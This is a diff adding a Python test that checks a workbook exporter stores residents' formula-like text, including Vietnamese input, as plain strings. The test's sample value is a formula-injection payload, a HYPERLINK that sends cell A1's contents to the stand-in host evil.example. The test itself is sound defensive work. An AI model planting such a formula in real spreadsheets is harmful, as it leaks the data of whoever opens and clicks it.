@@ -29,6 +29,15 @@ def test_a_workbook_keeps_vietnamese_text_and_shows_local_time():
     assert sheet.freeze_panes == "A2"
 
 
+def test_a_residents_text_that_looks_like_a_formula_stays_text():
+    hostile = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
+    data = workbook_bytes([Sheet("Kiến nghị", ["Nội dung"], [[hostile], ["=1+1"]])])
+
+    sheet = load_workbook(BytesIO(data))["Kiến nghị"]
+    assert (sheet["A2"].value, sheet["A2"].data_type) == (hostile, "s")
+    assert (sheet["A3"].value, sheet["A3"].data_type) == ("=1+1", "s")
+
+
 def _inflated(pdf: bytes) -> bytes:
     """The PDF with its compressed streams (where object streams keep font names) inflated."""
     parts = [pdf]
